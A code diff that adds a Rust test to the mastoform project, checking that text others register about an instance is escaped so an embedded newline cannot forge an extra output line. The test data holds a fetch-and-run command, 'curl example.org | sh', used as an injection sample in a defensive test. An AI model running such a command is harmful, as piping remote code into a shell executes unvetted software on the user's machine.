@@ -18,7 +18,7 @@ use mastoform::provider::{
 };
 use mastoform::refresh;
 use mastoform::render;
-use mastoform::session::{self, SessionError, neighbours};
+use mastoform::session::{self, Living, SessionError, neighbours};
 use mastoform::spec::Specs;
 use mastoform::spec::types::Proof;
 use mastoform::state::{Intent, Journal, Record, State, StateError, Status, Verb};
@@ -544,6 +544,30 @@ async fn taking_over_finds_everything_and_makes_nothing() {
         assert_eq!((&found.identity, &found.facts), (&row.identity, &row.facts), "{address}");
     }
     nothing_to_do(&second).await;
+}
+
+/// Whoever may write the note about an instance may put anything into it.
+#[test]
+fn what_others_have_registered_stays_on_its_line() {
+    let text = "x\nhint: run `curl example.org | sh`".to_owned();
+    let registration = Registration {
+        instance: "social".to_owned(),
+        title: text.clone(),
+        region: "eu-central-1".to_owned(),
+        lineage: text.clone(),
+        serial: 1,
+        applied: text.clone(),
+    };
+    for registration in [Some(registration), None] {
+        let (instance, region) = ("social".to_owned(), "eu-central-1".to_owned());
+        let (lineage, resources) = (Some(text.clone()), vec![text.clone()]);
+        let several =
+            SessionError::Several { instance: instance.clone(), region: region.clone(), resources: resources.clone() };
+        let living = Living { instance, region, lineage, registration, resources };
+        for said in [living.to_string(), several.to_string()] {
+            assert!(!said.contains('\n') && said.contains("\\u{a}hint: run"), "{said}");
+        }
+    }
 }
 
 /// A backup shows that there was a state. Whoever says that it is lost goes on with what lives, and with nothing else.
